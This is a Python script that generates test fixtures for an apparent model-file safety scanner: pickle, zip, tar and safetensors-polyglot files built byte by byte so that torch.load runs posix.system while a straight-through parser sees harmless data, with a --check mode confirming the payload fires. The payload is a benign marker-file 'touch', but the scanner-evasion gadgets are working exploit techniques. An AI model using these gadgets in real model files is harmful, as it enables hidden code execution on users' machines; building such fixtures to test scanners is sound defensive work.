#!/usr/bin/python3
"""Generate testdata/attacks/pickle/: files whose pickle CPython's unpickler (under torch.load)
reads differently from a straight-through parser, each carrying a payload, plus expected.jsonl.

Run from the repository root:
    /usr/bin/python3 testdata/gen/gen_pickle_attacks.py           # write the files
    /usr/bin/python3 testdata/gen/gen_pickle_attacks.py --check   # prove torch.load runs each payload

Writing never loads anything: the files are assembled byte by byte and written with zipfile and
tarfile, which only serialise. --check runs torch.load(path) (weights_only=False, torch 1.13's
default) on each file in a child process; the only payload is the shell command
    touch "$EMBTOOL_ATTACK_MARKER"
and the child points that variable at a fresh temporary folder per file, so a payload that runs
creates one marker file there and nothing else. The table says, per file, whether it did.

Classes (issue 9):
  memo      protocol-0 PUT/GET memo indexes spelled "1_0", "0_1_0", " 1_0": CPython reads them
            with int(s, 10) (10, 10, 10), fmt.Sscanf with %d reads 1, 0, 1, so STACK_GLOBAL
            resolves to posix.system for CPython and collections.OrderedDict for the scanner.
  frame     an operand crossing a FRAME end, and a FRAME inside an unfinished frame: CPython's
            file unpickler drops the rest of the frame; a straight-through parser reads the
            GLOBAL/REDUCE that follows as the data of a BINBYTES.
  legacy    legacy torch files whose later pickles are protocol 0 (no PROTO byte).
  polyglot  a valid safetensors file whose first byte (the header length's low byte) is the
            UNICODE opcode: torch.load unpickles it from byte 0.
  tar       a tar archive (ustar and v7): torch.load unpickles its member 'storages'.
"""

import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import embgen as E  # noqa: E402

OUT_NAME = os.path.join("attacks", "pickle")
CMD = b'touch "$EMBTOOL_ATTACK_MARKER"'
RECORDS = []


def X(s):
    """BINUNICODE."""
    b = s if isinstance(s, bytes) else s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def system_call():
    """posix.system(CMD) by GLOBAL, leaving its result on the stack."""
    return b"cposix\nsystem\n" + X(CMD) + b"\x85R"


def memo_gadget(big_a, big_b, old_a=b"9", old_b=b"8"):
    """Pushes one value. big_a/big_b are PUT/GET operands that CPython reads as other indexes
    than fmt.Sscanf("%d") does, which reads old_a/old_b (e.g. "9_0": CPython 90, Sscanf 9)."""
    g = b""
    g += X("posix") + b"p" + big_a + b"\n0"
    g += X("system") + b"p" + big_b + b"\n0"
    g += X("collections") + b"p" + old_a + b"\n0"
    g += X("OrderedDict") + b"p" + old_b + b"\n0"
    g += b"g" + big_a + b"\ng" + big_b + b"\n\x93"
    g += X(CMD) + b"\x85R"
    return g


def python_zip(data_pkl, storages=()):
    """A torch-style archive written by Python's zipfile (an ordinary zip)."""
    buf = io.BytesIO()
    entries = [("archive/data.pkl", data_pkl)] + [("archive/data/" + k, d) for k, d in storages]
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries + [("archive/version", b"3\n")]:
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def a1111_with_name(gadget):
    """An A1111 embedding (a real 2x768 tensor) whose name is the value the gadget pushes."""
    pkl = E.a1111_pickle(name_value=lambda p: p.raw(gadget))
    return pkl


def frame_straddle(fill):
    """Protocol 4: a FRAME whose last 5 bytes lie inside a BINUNICODE that crosses its end.

    frame = [BINBYTES of `fill` bytes, POP] [X hdr, 16 bytes long] [5 bytes 'AAAAA']
    after = 'fffffffffff' 'B' u32(k) | MAL (k bytes) | '.'
    A straight-through parser: X = 'AAAAA' + 'fffffffffff'; BINBYTES swallows MAL; STOP.
    CPython reading a file: at the X it drops 'AAAAA', reads X = 'fffffffffff' 'B' u32(k), and
    runs MAL (posix.system, POP), then STOP returns the X string.
    """
    mal = system_call() + b"0"
    inner = b""
    if fill:
        inner += b"B" + struct.pack("<I", fill) + b"\x00" * fill + b"0"
    inner += b"X" + struct.pack("<I", 16) + b"AAAAA"
    after = b"f" * 11 + b"B" + struct.pack("<I", len(mal)) + mal + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner + after


def frame_in_frame(fill):
    """Protocol 4: FRAME(outer) [fill] [FRAME(inner) header] ['B' u32(k)] | MAL (k) 'N' '.'.

    Straight-through: the inner frame starts after its header; 'B' swallows MAL; None; STOP.
    CPython reading a file: the inner FRAME needs more than the outer frame holds, so it drops
    the 5 bytes 'B' u32(k) and reads the inner frame from the outer frame's end: MAL runs.
    """
    mal = system_call() + b"0"
    tail = mal + b"N."
    inner_hdr = b"\x95" + struct.pack("<Q", len(tail))
    outer = b""
    if fill:
        outer += b"B" + struct.pack("<I", fill) + b"\x00" * fill + b"0"
    outer += inner_hdr + b"B" + struct.pack("<I", len(mal))
    return b"\x80\x04\x95" + struct.pack("<Q", len(outer)) + outer + tail


# A frame this long is read with read(), not from the peek() prefetch of a buffered file
# (the C unpickler prefetches at most 128 KiB, and BufferedReader.peek returns at most its
# buffer), so the straddle also works on the legacy path, where torch.load unpickles the open
# file itself. Inside a zip torch unpickles an io.BytesIO, which has no peek: any frame works.
BIG = 140_000


def sys_info_p0():
    """sys_info at protocol 0 (no PROTO) whose first value runs the payload."""
    return (b"(dp0\nVprotocol_version\np1\nI1001\nsVlittle_endian\np2\nI01\nsVpayload\np3\n"
            + b"cposix\nsystem\np4\n(V" + CMD + b"\ntRp5\ns.")


def polyglot_safetensors():
    """A valid safetensors file (one F32 tensor emb_params of 1x768) whose header length's low
    byte is 'V' (UNICODE): CPython reads everything up to the first newline (in the tensor
    data) as one str, then runs posix.system."""
    mal = b"\n" + system_call() + b"."
    nfloat = 768
    data = bytearray(struct.pack("<%df" % nfloat, *([0.0] * nfloat)))
    data[:len(mal)] = mal
    header = E.st_header_json([("emb_params", "F32", [1, nfloat], len(data))],
                              {"format": "pt"}).encode()
    n = len(header)
    while n % 256 != ord("V"):
        n += 1
    hb = header + b" " * (n - len(header))
    return struct.pack("<Q", n) + hb + bytes(data)


def tar_file(fmt):
    buf = io.BytesIO()
    payload = b"\x80\x02" + system_call() + b"."
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for name, data in (("storages", payload), ("tensors", b"\x80\x02K\x00."),
                           ("pickle", b"\x80\x02N.")):
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def add(fname, cls, data, reasons, attack):
    E.write_bytes(os.path.join(OUT, fname), data)
    RECORDS.append({"file": fname, "class": cls, "verdict": "unsafe", "reasons": reasons,
                    "size": len(data), "sha256": E.sha256(data), "attack": attack})
    print("%-32s %-8s %7d" % (fname, cls, len(data)))


def generate():
    global OUT
    OUT = E.out_dir(OUT_NAME)
    for f in os.listdir(OUT):
        os.remove(os.path.join(OUT, f))
    memo = ["memo index", "ambiguous"]
    add("memo_1_0.pkl", "memo", b"\x80\x02" + memo_gadget(b"1_0", b"2_0", b"1", b"2") + b"0N.", memo,
        "bare pickle: PUT/GET '1_0' is memo 10 for CPython, 1 for fmt.Sscanf")
    add("memo_0_1_0.pkl", "memo", b"\x80\x02" + memo_gadget(b"0_9_0_1", b"8_0_1", b"0", b"8") + b"0N.", memo,
        "bare pickle: PUT/GET '0_9_0_1' and '8_0_1' (CPython 901 and 801, Sscanf 0 and 8)")
    add("memo_space_1_0.pkl", "memo", b"\x80\x02" + memo_gadget(b" 9_0", b" 8_0") + b"0N.", memo,
        "bare pickle: PUT/GET ' 9_0' (int() strips the space and takes the underscore)")
    add("memo_1_0_in_zip.pt", "memo", python_zip(a1111_with_name(memo_gadget(b"9_0", b"8_0")),
                                          [("0", struct.pack("<1536f", *[0.01 * (i % 97) for i in range(1536)]))]), memo,
        "A1111 embedding in an ordinary zip whose name is the memo trick")
    frame = ["frame", "ambiguous"]
    add("frame_straddle.pkl", "frame", frame_straddle(BIG), frame,
        "bare pickle: a BINUNICODE crosses the end of a 140 000-byte FRAME")
    add("frame_straddle_in_zip.pt", "frame", python_zip(frame_straddle(0)), frame,
        "data.pkl of an ordinary zip: a BINUNICODE crosses the end of a 10-byte FRAME")
    add("frame_in_frame.pkl", "frame", frame_in_frame(BIG), ["FRAME inside an unfinished frame"],
        "bare pickle: a FRAME starts 5 bytes before the end of a 140 000-byte FRAME")
    add("frame_in_frame_in_zip.pt", "frame", python_zip(frame_in_frame(0)),
        ["FRAME inside an unfinished frame"], "data.pkl of an ordinary zip: FRAME inside a FRAME")
    p2_text = b"I1001\n."
    p3_bin = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                           "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    p4_mal = b"\x80\x02" + system_call() + b"."
    add("legacy_p0_protocol.pt", "legacy", E.LEGACY_MAGIC + p2_text + p3_bin + p4_mal + b"\x80\x02]q\x00.",
        ["posix.system"], "legacy file: pickle 2 (protocol version) is protocol 0, pickle 4 calls posix.system")
    add("legacy_p0_sysinfo.pt", "legacy", E.LEGACY_MAGIC + E.LEGACY_PROTOCOL + sys_info_p0()
        + b"\x80\x02N." + b"\x80\x02]q\x00.", ["posix.system"],
        "legacy file: pickle 3 (sys_info) is protocol 0 and calls posix.system")
    add("polyglot_safetensors.pt", "polyglot", polyglot_safetensors(), ["posix.system"],
        "a valid safetensors file whose first byte is UNICODE: torch.load runs posix.system")
    add("tar_ustar.pt", "tar", tar_file(tarfile.USTAR_FORMAT), ["tar"],
        "ustar archive: torch.load's legacy tar path unpickles member 'storages' (posix.system)")
    add("tar_v7.pt", "tar", v7_tar(), ["tar"], "v7 tar (no ustar magic, first byte 's'): same")
    E.write_jsonl(os.path.join(OUT, "expected.jsonl"), RECORDS)


def v7_tar():
    """A tar whose headers have no ustar magic: tarfile still opens it (checksum only)."""
    data = tar_file(tarfile.USTAR_FORMAT)
    out = bytearray(data)
    off = 0
    while off + 512 <= len(out):
        blk = out[off:off + 512]
        if blk == bytes(512):
            break
        size = int(blk[124:136].rstrip(b"\0 ") or b"0", 8)
        blk[257:512] = bytes(255)          # drop magic, version, uname, gname, devs, prefix
        blk[148:156] = b" " * 8
        chk = sum(blk)
        blk[148:156] = b"%06o\0 " % chk
        out[off:off + 512] = blk
        off += 512 + (size + 511) // 512 * 512
    return bytes(out)


CHILD = r"""
import json, os, sys, tempfile, torch, warnings
warnings.simplefilter("ignore")
out = {}
for path in sys.argv[1:]:
    d = tempfile.mkdtemp(prefix="embtool-attack-")
    marker = os.path.join(d, "marker")
    os.environ["EMBTOOL_ATTACK_MARKER"] = marker
    err = ""
    try:
        torch.load(path)
    except BaseException as e:
        err = type(e).__name__
    out[path] = [os.path.exists(marker), err]
    if os.path.exists(marker):
        os.remove(marker)
    os.rmdir(d)
print(json.dumps(out))
"""


def check():
    out = E.out_dir(OUT_NAME)
    recs = [json.loads(l) for l in open(os.path.join(out, "expected.jsonl"))]
    paths = [os.path.join(out, r["file"]) for r in recs]
    env = dict(os.environ)
    env.pop("EMBTOOL_ATTACK_MARKER", None)
    res = subprocess.run([sys.executable, "-c", CHILD] + paths, capture_output=True, text=True,
                         timeout=600, env=env)
    if res.returncode != 0:
        sys.stderr.write(res.stderr)
        sys.exit(2)
    got = json.loads(res.stdout.strip().splitlines()[-1])
    print("%-9s %-28s %-17s %s" % ("class", "file", "torch ran payload", "torch.load then"))
    bad = 0
    for r, p in zip(recs, paths):
        ran, err = got[p]
        bad += not ran
        print("%-9s %-28s %-17s %s" % (r["class"], r["file"], "yes" if ran else "NO", err or "returned"))
    print("%d files, payload ran in %d" % (len(recs), len(recs) - bad))
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    if sys.argv[1:] == ["--check"]:
        check()
    else:
        generate()
